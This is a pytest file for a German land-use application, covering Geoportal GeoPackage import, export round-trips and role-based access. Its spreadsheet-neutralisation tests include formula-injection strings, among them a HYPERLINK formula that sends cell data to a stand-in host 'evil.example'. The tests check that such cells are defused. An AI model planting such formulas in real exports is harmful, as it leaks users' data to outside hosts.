"""Geoportal import (mapping, preview, apply) and Geoportal/KWIS export read back."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import zipfile
from pathlib import Path

import geopandas as gpd
import pytest
from sqlalchemy import func, select

from cockpit.db import make_engine, make_session_factory
from cockpit.domain.errors import AccessDeniedError, ConflictError, ImportRejectedError
from cockpit.domain.roles import Role
from cockpit.domain.spreadsheet import neutralize_spreadsheet_text
from cockpit.domain.vocab import AreaStatus
from cockpit.models import AreaPotential, AreaVersion, AuditLog, ExportRun
from cockpit.services import areas
from cockpit.services.areas import AreaFilter
from cockpit.services.areas import exchange as area_exchange
from cockpit.services.areas import export as area_export
from cockpit.services.areas import mapping as area_mapping
from layers.upload import read_upload
from tests.areas_support import (
    GOERLITZ,
    ZITTAU,
    area_attrs,
    inner_square,
    load_municipalities,
    make_principal,
)
from tests.config_support import TEST_CONFIG, TEST_METRIC_CRS

MAPPING = {
    "OBJECTID": "geoportal_id",
    "BEZEICHNUNG": "name",
    "ART": "kind",
    "STATUS": "status",
    "GKZ": "municipality_ags",
    "values.kind.GE": "gewerbe",
    "values.kind.GI": "industrie",
    "values.kind.BR": "brache",
    "default.status": "verfuegbar",
}


@pytest.fixture
def world(any_db_url: str):
    engine = make_engine(any_db_url)
    session = make_session_factory(engine)()
    towns = load_municipalities(session, GOERLITZ, ZITTAU)
    kreis = make_principal(session, "redaktion", Role.KREIS_REDAKTION)
    kommune = make_principal(session, "zittau", Role.KOMMUNE, [towns[ZITTAU]])
    yield session, towns, kreis, kommune
    session.close()
    engine.dispose()


def _geoportal(tmp_path: Path, towns, rows) -> bytes:
    """A Geoportal-style GeoPackage (their field names and codes) in EPSG:25833."""
    records, geoms = [], []
    for oid, name, art, status, ags, size, dx in rows:
        records.append(
            {"OBJECTID": oid, "BEZEICHNUNG": name, "ART": art, "STATUS": status, "GKZ": ags}
        )
        geoms.append(inner_square(towns[ags], size, dx=dx))
    frame = gpd.GeoDataFrame(records, geometry=geoms, crs="EPSG:25833")
    path = tmp_path / f"geoportal_{len(list(tmp_path.iterdir()))}.gpkg"
    frame.to_file(path, layer="gewerbeflaechen")
    return path.read_bytes()


def _count(session, model) -> int:
    return int(session.scalar(select(func.count()).select_from(model)))


def test_import_preview_apply_and_reimport(world, tmp_path: Path) -> None:
    session, towns, kreis, kommune = world
    rows = [
        (101, "GE Am Flugplatz", "GE", "verfügbar", GOERLITZ, 300, 0),
        (102, "GI Weinhübel", "GI", None, GOERLITZ, 200, 800),
        (201, "Brache Spinnerei", "BR", "reserviert", ZITTAU, 150, 0),
    ]
    layer = read_upload(
        _geoportal(tmp_path, towns, rows), "geoportal.gpkg", metric_crs=TEST_METRIC_CRS
    )
    with pytest.raises(AccessDeniedError):
        area_exchange.preview_import(
            session, kommune, layer, "Geoportal LK", MAPPING, config=TEST_CONFIG
        )
    preview = area_exchange.preview_import(
        session, kreis, layer, "Geoportal LK", MAPPING, config=TEST_CONFIG
    )
    assert preview.counts == {"new": 3, "changed": 0, "unchanged": 0, "missing": 0}
    assert [r.municipality_name for r in preview.new] == ["Görlitz", "Görlitz", "Zittau"]
    assert _count(session, AreaPotential) == 0  # preview writes nothing
    result = area_exchange.apply_import(
        session,
        kreis,
        layer,
        "Geoportal LK",
        MAPPING,
        expected_token=preview.token,
        config=TEST_CONFIG,
    )
    assert (result.created, result.updated) == (3, 0)
    assert area_mapping.get_mapping(session, kreis, "Geoportal LK") == MAPPING
    listed = areas.list_areas(session, kreis, AreaFilter(), config=TEST_CONFIG)
    assert {i.name: i.status for i in listed.items}["GI Weinhübel"] is AreaStatus.VERFUEGBAR
    assert {i.source.value for i in listed.items} == {"geoportal"}

    # second delivery: 101 changed status + geometry, 102 unchanged, 201 missing, 103 new
    rows2 = [
        (101, "GE Am Flugplatz", "GE", "vermarktet", GOERLITZ, 400, 0),
        (102, "GI Weinhübel", "GI", None, GOERLITZ, 200, 800),
        (103, "GE Neu", "GE", "verfügbar", GOERLITZ, 100, -900),
    ]
    layer2 = read_upload(
        _geoportal(tmp_path, towns, rows2), "geoportal2.gpkg", metric_crs=TEST_METRIC_CRS
    )
    preview2 = area_exchange.preview_import(
        session, kreis, layer2, "Geoportal LK", config=TEST_CONFIG
    )  # saved mapping
    assert preview2.counts == {"new": 1, "changed": 1, "unchanged": 1, "missing": 1}
    changed = preview2.changed[0]
    assert changed.geoportal_id == "101" and changed.geometry_changed
    assert [(c.label, c.old_text, c.new_text) for c in changed.changes] == [
        ("Vermarktungsstand", "verfügbar", "vermarktet")
    ]
    assert preview2.missing[0].name == "Brache Spinnerei"
    # someone edits 101 after the preview: the stale preview is refused
    gid101 = changed.area_id
    assert gid101 is not None
    areas.update_area(session, kreis, gid101, 1, {"notes": "Zwischenstand"}, config=TEST_CONFIG)
    with pytest.raises(ConflictError):
        area_exchange.apply_import(
            session,
            kreis,
            layer2,
            "Geoportal LK",
            expected_token=preview2.token,
            config=TEST_CONFIG,
        )
    fresh = area_exchange.preview_import(session, kreis, layer2, "Geoportal LK", config=TEST_CONFIG)
    result2 = area_exchange.apply_import(
        session,
        kreis,
        layer2,
        "Geoportal LK",
        expected_token=fresh.token,
        delete_missing=True,
        config=TEST_CONFIG,
    )
    assert (result2.created, result2.updated, result2.unchanged, result2.deleted) == (1, 1, 1, 1)
    detail = areas.get_area(session, kreis, gid101, config=TEST_CONFIG)
    assert detail.status is AreaStatus.VERMARKTET and detail.area_ha == pytest.approx(16.0, 1e-3)
    assert detail.history[0].action == "import" and "Geoportal LK" in detail.history[0].reason
    assert areas.list_areas(session, kreis, AreaFilter(), config=TEST_CONFIG).total == 3


def test_bad_features_reject_the_whole_import(world, tmp_path: Path) -> None:
    session, towns, kreis, _ = world
    rows = [
        (1, "Gut", "GE", "verfügbar", GOERLITZ, 200, 0),
        (2, "Falsche Art", "XX", "verfügbar", GOERLITZ, 200, 600),
        (2, "Doppelt", "GE", "verfügbar", GOERLITZ, 200, 1200),
    ]
    layer = read_upload(
        _geoportal(tmp_path, towns, rows), "geoportal.gpkg", metric_crs=TEST_METRIC_CRS
    )
    with pytest.raises(ImportRejectedError) as rejected:
        area_exchange.apply_import(
            session, kreis, layer, "Geoportal LK", MAPPING, config=TEST_CONFIG
        )
    message = rejected.value.user_message
    assert "nichts geändert" in message
    assert "Objekt Nr. 2 („Falsche Art“)" in message and "„XX“" in message
    assert "Objekt Nr. 3" in message and "mehrfach" in message
    assert _count(session, AreaPotential) == 0 and _count(session, AreaVersion) == 0
    # a Zittau square declared as Görlitz: outside its municipality
    wrong = gpd.GeoDataFrame(
        [{"OBJECTID": 9, "BEZEICHNUNG": "Verirrt", "ART": "GE", "STATUS": "", "GKZ": GOERLITZ}],
        geometry=[inner_square(towns[ZITTAU], 200)],
        crs="EPSG:25833",
    )
    path = tmp_path / "wrong.gpkg"
    wrong.to_file(path)
    with pytest.raises(ImportRejectedError) as outside:
        area_exchange.preview_import(
            session,
            kreis,
            read_upload(path, "wrong.gpkg", metric_crs=TEST_METRIC_CRS),
            "Geoportal LK",
            MAPPING,
            config=TEST_CONFIG,
        )
    assert "außerhalb der Gemeinde Görlitz" in outside.value.user_message


def _ogrinfo(path: str) -> tuple[int, list[str]]:
    out = subprocess.run(
        ["ogrinfo", "-so", "-al", path], capture_output=True, text=True, check=True
    ).stdout
    count = int(re.search(r"Feature Count: (\d+)", out).group(1))
    fields = re.findall(r"^(\w+): (?:String|Integer|Integer64|Real|Date|DateTime)", out, re.M)
    return count, fields


@pytest.fixture
def exported(world):
    session, towns, kreis, kommune = world
    g, z = towns[GOERLITZ], towns[ZITTAU]
    created = [
        areas.create_area(
            session,
            kreis,
            area_attrs(g, "Gewerbegebiet Süd", geoportal_id="GP-1", servicing=["strasse", "strom"]),
            inner_square(g, 300),
            config=TEST_CONFIG,
        ),
        areas.create_area(
            session,
            kreis,
            area_attrs(g, "Brache Nord", kind="brache"),
            inner_square(g, 100, dx=900),
            config=TEST_CONFIG,
        ),
        areas.create_area(
            session,
            kreis,
            area_attrs(z, "Zittau Ost", kwis_id="K-7"),
            inner_square(z, 200),
            config=TEST_CONFIG,
        ),
    ]
    return session, towns, kreis, kommune, created


@pytest.mark.parametrize("fmt", ["gpkg", "shp", "geojson", "csv"])
def test_export_formats_read_back_with_ogrinfo_and_geopandas(exported, tmp_path: Path, fmt) -> None:
    session, _towns, kreis, _kommune, created = exported
    result = area_export.export_areas(
        session, kreis, target="geoportal", file_format=fmt, out_dir=tmp_path, config=TEST_CONFIG
    )
    [path] = result.files
    ogr_path = f"/vsizip/{path}" if fmt == "shp" else str(path)
    count, fields = _ogrinfo(ogr_path)
    assert count == 3
    expected_fields = {
        "public_id",
        "geoport_id",
        "kwis_id",
        "name",
        "gem_ags",
        "art",
        "status",
        "flaeche_ha",
        "erschl",
        "aenderung",
    }
    if fmt != "csv":  # CSV columns are all strings; checked via GeoPandas below
        assert expected_fields <= set(fields)
    assert all(len(f) <= 10 for f in fields)
    frame = gpd.read_file(ogr_path)
    db = {a.public_id: a for a in session.scalars(select(AreaPotential))}
    assert set(frame["public_id"]) == set(db)
    for _, row in frame.iterrows():
        area = db[row["public_id"]]
        assert row["name"] == area.name
        assert float(row["flaeche_ha"]) == pytest.approx(area.area_ha, rel=1e-6)
    south = frame[frame["name"] == "Gewerbegebiet Süd"].iloc[0]
    assert south["erschl"] == "strasse,strom" and south["geoport_id"] == "GP-1"
    manifest = json.loads(result.manifest_path.read_text(encoding="utf-8"))
    assert manifest["anzahl"]["objekte"] == 3 and manifest["format"] == fmt
    assert manifest["crs"] == ("EPSG:25833" if fmt in ("gpkg", "shp") else "EPSG:4326")
    assert len(manifest["daten_hash"]) == 64 and manifest["benutzer"] == "Redaktion"
    if fmt in ("gpkg", "shp"):
        assert frame.crs.to_epsg() == 25833
        geom = frame[frame["public_id"] == created[0].public_id].geometry.iloc[0]
        assert geom.area / 10_000 == pytest.approx(9.0, rel=1e-6)
    if fmt == "gpkg":
        info = subprocess.run(["ogrinfo", str(path)], capture_output=True, text=True, check=True)
        assert "version" not in info.stderr.lower()
    if fmt == "shp":
        names = zipfile.ZipFile(path).namelist()
        assert {"flaechenpotenziale.prj", "flaechenpotenziale.cpg"} <= set(names)
        assert zipfile.ZipFile(path).read("flaechenpotenziale.cpg").strip() == b"UTF-8"
    if fmt == "geojson":
        assert frame.crs.to_epsg() == 4326
        assert 14 < frame.geometry.iloc[0].centroid.x < 15.2


def test_change_set_and_scope(exported, tmp_path: Path) -> None:
    session, towns, kreis, kommune, created = exported
    first = area_export.export_areas(
        session,
        kreis,
        target="geoportal",
        file_format="gpkg",
        out_dir=tmp_path / "1",
        config=TEST_CONFIG,
    )
    assert first.manifest["anzahl"]["new"] == 3 and first.manifest["seit"] is None
    areas.update_area(
        session, kreis, created[0].area_id, 1, {"status": "reserviert"}, config=TEST_CONFIG
    )
    areas.delete_area(session, kreis, created[1].area_id, 1, reason="bebaut")
    g = towns[GOERLITZ]
    added = areas.create_area(
        session, kreis, area_attrs(g, "Neu"), inner_square(g, 100, dx=-900), config=TEST_CONFIG
    )
    delta = area_export.export_areas(
        session,
        kreis,
        target="geoportal",
        file_format="geojson",
        out_dir=tmp_path / "2",
        changes_only=True,
        config=TEST_CONFIG,
    )
    frame = gpd.read_file(delta.files[0])
    changes = dict(zip(frame["public_id"], frame["aenderung"], strict=True))
    assert changes == {
        created[0].public_id: "geaendert",
        created[1].public_id: "geloescht",
        added.public_id: "neu",
    }
    counts = delta.manifest["anzahl"]
    assert (counts["new"], counts["changed"], counts["deleted"]) == (1, 1, 1)
    # KWIS has its own change history: a first KWIS delta contains everything current
    kwis = area_export.export_areas(
        session,
        kreis,
        target="kwis",
        file_format="csv",
        out_dir=tmp_path / "3",
        changes_only=True,
        csv_geometry="centroid",
        config=TEST_CONFIG,
    )
    assert kwis.manifest["anzahl"]["objekte"] == 3
    assert _count(session, ExportRun) == 3
    logged = session.scalars(
        select(AuditLog.target).where(AuditLog.action == "export_areas").order_by(AuditLog.id)
    ).all()
    assert logged == ["geoportal/gpkg", "geoportal/geojson", "kwis/csv"]
    # a Kommune exports only its own municipality
    own = area_export.export_areas(
        session,
        kommune,
        target="analysis",
        file_format="geojson",
        out_dir=tmp_path / "4",
        config=TEST_CONFIG,
    )
    assert gpd.read_file(own.files[0])["gemeinde"].tolist() == ["Zittau"]
    assert own.manifest["umfang"] == ZITTAU
    with pytest.raises(AccessDeniedError):
        area_export.export_areas(
            session,
            kommune,
            target="analysis",
            file_format="csv",
            out_dir=tmp_path / "5",
            municipality_id=g.id,
            config=TEST_CONFIG,
        )


def test_sync_targets_are_for_editors_only(exported, tmp_path: Path) -> None:
    """Geoportal/KWIS runs are the baseline of the next change set: a read-only export to
    them is refused (German hint to "Analyse") and writes no ExportRun."""
    session, _towns, kreis, kommune, _created = exported
    analyse = make_principal(session, "auswertung", Role.ANALYSE)
    out = tmp_path / "refused"
    for principal in (analyse, kommune):
        for target in area_export.SYNC_TARGETS:
            with pytest.raises(AccessDeniedError) as refused:
                area_export.export_areas(
                    session,
                    principal,
                    target=target,
                    file_format="csv",
                    out_dir=out,
                    config=TEST_CONFIG,
                )
            assert "Analyse" in refused.value.user_message
    assert _count(session, ExportRun) == 0
    assert not out.exists()  # refused before anything was written
    result = area_export.export_areas(
        session, analyse, target="analysis", file_format="csv", out_dir=tmp_path, config=TEST_CONFIG
    )
    assert result.manifest["anzahl"]["objekte"] == 3
    kreis_run = area_export.export_areas(
        session,
        kreis,
        target="kwis",
        file_format="csv",
        out_dir=tmp_path / "kwis",
        config=TEST_CONFIG,
    )
    assert kreis_run.manifest["ziel"] == "kwis"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("https://x.example")', '\'=HYPERLINK("https://x.example")'),
        ("+49 3581 1234", "'+49 3581 1234"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Gewerbegebiet Süd", "Gewerbegebiet Süd"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralize_spreadsheet_text(text: str, expected: str) -> None:
    assert neutralize_spreadsheet_text(text) == expected


def test_csv_export_neutralizes_formula_text_but_keeps_numbers(world, tmp_path: Path) -> None:
    session, towns, kreis, _kommune = world
    g = towns[GOERLITZ]
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Details")'
    areas.create_area(
        session,
        kreis,
        area_attrs(g, formula, notes="@Bahnhof", geoportal_id="-17", net_area_ha=2.5),
        inner_square(g, 200),
        config=TEST_CONFIG,
    )
    result = area_export.export_areas(
        session, kreis, target="kwis", file_format="csv", out_dir=tmp_path, config=TEST_CONFIG
    )
    text = result.files[0].read_text(encoding="utf-8-sig")
    [header, row] = list(csv.reader(text.splitlines(), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + formula
    assert cells["bemerkung"] == "'@Bahnhof" and cells["geoport_id"] == "'-17"
    assert cells["netto_ha"] == "2.5" and float(cells["flaeche_ha"]) == pytest.approx(4.0, rel=1e-3)
    assert cells["WKT"].startswith("MULTIPOLYGON")


def test_uploads_are_authorized_before_they_are_parsed(world, tmp_path: Path) -> None:
    session, towns, kreis, kommune = world
    rows = [(1, "GE Test", "GE", "verfügbar", GOERLITZ, 200, 0)]
    payload = _geoportal(tmp_path, towns, rows)
    for data in (payload, b"not a geodata file"):
        with pytest.raises(AccessDeniedError):
            area_exchange.read_import_layer(kommune, data, "geoportal.gpkg", config=TEST_CONFIG)
    with pytest.raises(ImportRejectedError) as bad:
        area_exchange.read_import_layer(
            kreis, b"not a geodata file", "liste.txt", config=TEST_CONFIG
        )
    assert "liste.txt" in bad.value.user_message
    layer = area_exchange.read_import_layer(kreis, payload, "geoportal.gpkg", config=TEST_CONFIG)
    assert layer.feature_count == 1 and "OBJECTID" in layer.fields
    preview = area_exchange.preview_import(
        session, kreis, layer, "Geoportal LK", MAPPING, config=TEST_CONFIG
    )
    assert preview.counts["new"] == 1
